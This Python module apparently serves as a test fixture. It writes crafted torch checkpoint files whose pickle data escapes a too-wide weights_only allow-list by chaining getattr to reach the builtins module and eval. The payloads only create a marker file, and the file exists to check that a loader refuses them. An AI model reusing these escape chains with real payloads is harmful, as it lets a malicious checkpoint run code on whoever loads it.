"""Hand-built checkpoints that exploit a too-wide ``weights_only`` allow-list.

Each file holds only globals that mmmt's loader allow-lists (``builtins.getattr``,
``collections.OrderedDict``, mmengine's ``HistoryBuffer`` and torch's own rebuild functions) and,
when unpickled by a loader whose ``getattr`` resolves any attribute, creates ``marker``, undoes
what it changed and loads as a normal checkpoint. A safe loader must refuse both.

- ``builtins``: ``getattr(getattr, '__self__')`` is the builtins module; ``eval`` and ``slice``
  are written into its ``__dict__`` and a ``HistoryBuffer`` whose ``_statistics_methods`` is
  that module calls them from ``__setstate__``.
- ``globals``: ``getattr(_rebuild_parameter, '__globals__')`` is the dict of ``torch._utils``;
  its ``torch`` is replaced by ``OrderedDict`` objects whose attributes lead to ``eval``, which
  ``_rebuild_parameter`` then calls.

:data:`OPCODE_PAYLOADS` are files whose opcodes torch's weights-only unpickler refuses for what
they act on (no ``marker``): ``build`` sets the state of a plain dict, ``newobj`` and ``reduce``
create an object with / call ``HistoryBuffer.min``, which a file can reach through the allowed
``getattr`` but which is no allow-listed class or function.
"""
import io
import pickle
import struct
import zipfile

import torch

__all__ = ['PAYLOADS', 'OPCODE_PAYLOADS', 'write_payload']

PAYLOADS = ('builtins', 'globals')
OPCODE_PAYLOADS = ('build', 'newobj', 'reduce')


class _Ops:
    """A minimal protocol-2 pickle writer (opcodes, memo slots, strings)."""

    def __init__(self) -> None:
        self.out = bytearray(pickle.PROTO + b'\x02')

    def op(self, *codes: bytes) -> '_Ops':
        for code in codes:
            self.out += code
        return self

    def text(self, value: str) -> '_Ops':
        data = value.encode('utf-8')
        self.out += pickle.BINUNICODE + struct.pack('<I', len(data)) + data
        return self

    def glob(self, module: str, name: str, slot: int) -> '_Ops':
        self.out += pickle.GLOBAL + f'{module}\n{name}\n'.encode()
        return self.put(slot)

    def put(self, slot: int) -> '_Ops':
        self.out += pickle.BINPUT + bytes([slot])
        return self

    def get(self, slot: int) -> '_Ops':
        self.out += pickle.BINGET + bytes([slot])
        return self

    def getattr_(self, obj_slot: int, name: str, slot: int) -> '_Ops':
        """``slot = getattr(<obj_slot>, name)`` (slot 0 holds ``getattr``)."""
        return self.get(0).get(obj_slot).text(name).op(pickle.TUPLE2, pickle.REDUCE).put(
            slot)

    def empty_checkpoint(self) -> '_Ops':
        """Push ``{'state_dict': {}, 'meta': {}}``."""
        return self.op(pickle.EMPTY_DICT).text('state_dict').op(
            pickle.EMPTY_DICT, pickle.SETITEM).text('meta').op(pickle.EMPTY_DICT, pickle.SETITEM)


def _code(marker: str, repair: str, result: str) -> str:
    return (f"(open({marker!r}, 'w').close(), {repair}, {result})[-1]")


def _builtins_payload(marker: str) -> bytes:
    code = _code(marker, "[delattr(__import__('builtins'), n) for n in ('update', "
                 "'setdefault')]", 'None')
    p = _Ops()
    p.glob('builtins', 'getattr', 0).glob('mmengine.logging.history_buffer', 'HistoryBuffer', 1)
    p.getattr_(0, '__self__', 2)  # the builtins module
    p.getattr_(2, '__dict__', 3).getattr_(2, 'eval', 4).getattr_(2, 'slice', 5)
    # builtins.update = eval; builtins.setdefault = slice (a harmless 2-argument call)
    p.get(3).op(pickle.MARK).text('update').get(4).text('setdefault').get(5).op(
        pickle.SETITEMS)
    # a HistoryBuffer whose _statistics_methods is the builtins module; its second
    # __setstate__ calls _statistics_methods.setdefault(...) and .update(code)
    p.get(1).op(pickle.EMPTY_TUPLE, pickle.NEWOBJ)
    p.op(pickle.EMPTY_DICT).text('_statistics_methods').get(2).op(pickle.SETITEM, pickle.BUILD)
    p.op(pickle.EMPTY_DICT).text('statistics_methods').text(code).op(
        pickle.SETITEM, pickle.BUILD)
    return bytes(p.empty_checkpoint().op(pickle.STOP).out)


def _globals_payload(marker: str) -> bytes:
    torch_ = "__import__('torch')"
    code = _code(marker, f"setattr({torch_}._utils, 'torch', {torch_})",
                 f'{torch_}.nn.Parameter({torch_}.zeros(2))')
    p = _Ops()
    p.glob('builtins', 'getattr', 0).glob('torch._utils', '_rebuild_parameter', 1)
    p.glob('collections', 'OrderedDict', 2)
    p.getattr_(1, '__globals__', 3)  # the dict of torch._utils
    p.getattr_(0, '__self__', 4).getattr_(4, 'eval', 5)
    for slot, name, value in ((6, 'Parameter', 5), (7, 'nn', 6)):
        # an OrderedDict with attribute name=value: fake torch.nn, fake torch
        p.get(2).op(pickle.EMPTY_TUPLE, pickle.REDUCE)
        p.op(pickle.EMPTY_DICT).text(name).get(value).op(pickle.SETITEM, pickle.BUILD)
        p.put(slot)
    p.get(3).text('torch').get(7).op(pickle.SETITEM)
    # {'state_dict': {'w': _rebuild_parameter(code, {}, OrderedDict())}, 'meta': {}}
    p.op(pickle.EMPTY_DICT).text('state_dict').op(pickle.EMPTY_DICT).text('w')
    p.get(1).text(code).op(pickle.EMPTY_DICT).get(2).op(pickle.EMPTY_TUPLE, pickle.REDUCE,
                                                        pickle.TUPLE3, pickle.REDUCE)
    p.op(pickle.SETITEM, pickle.SETITEM).text('meta').op(pickle.EMPTY_DICT, pickle.SETITEM)
    return bytes(p.op(pickle.STOP).out)


def _opcode_payload(kind: str) -> bytes:
    p = _Ops()
    p.glob('builtins', 'getattr', 0).glob('mmengine.logging.history_buffer', 'HistoryBuffer', 1)
    p.getattr_(1, 'min', 2)
    p.op(pickle.EMPTY_DICT).text('state_dict').op(pickle.EMPTY_DICT, pickle.SETITEM).text('x')
    if kind == 'build':  # {}.__setstate__({}): torch builds only allow-listed types
        p.op(pickle.EMPTY_DICT, pickle.EMPTY_DICT, pickle.BUILD)
    else:  # HistoryBuffer.min.__new__(HistoryBuffer.min) / HistoryBuffer.min()
        p.get(2).op(pickle.EMPTY_TUPLE, pickle.NEWOBJ if kind == 'newobj' else pickle.REDUCE)
    return bytes(p.op(pickle.SETITEM, pickle.STOP).out)


def write_payload(kind: str, path: str, marker: str = '') -> str:
    """Write the ``kind`` payload (of :data:`PAYLOADS` or :data:`OPCODE_PAYLOADS`) as a torch
    zip checkpoint at ``path``; returns ``path``.

    The archive is a real ``torch.save`` file whose ``data.pkl`` is replaced.
    """
    if kind in OPCODE_PAYLOADS:
        data = _opcode_payload(kind)
    else:
        data = {'builtins': _builtins_payload, 'globals': _globals_payload}[kind](str(marker))
    buf = io.BytesIO()
    torch.save({}, buf)
    buf.seek(0)
    with zipfile.ZipFile(buf) as src, zipfile.ZipFile(path, 'w') as dst:
        for info in src.infolist():
            body = data if info.filename.endswith('/data.pkl') else src.read(info)
            dst.writestr(info, body)
    return str(path)
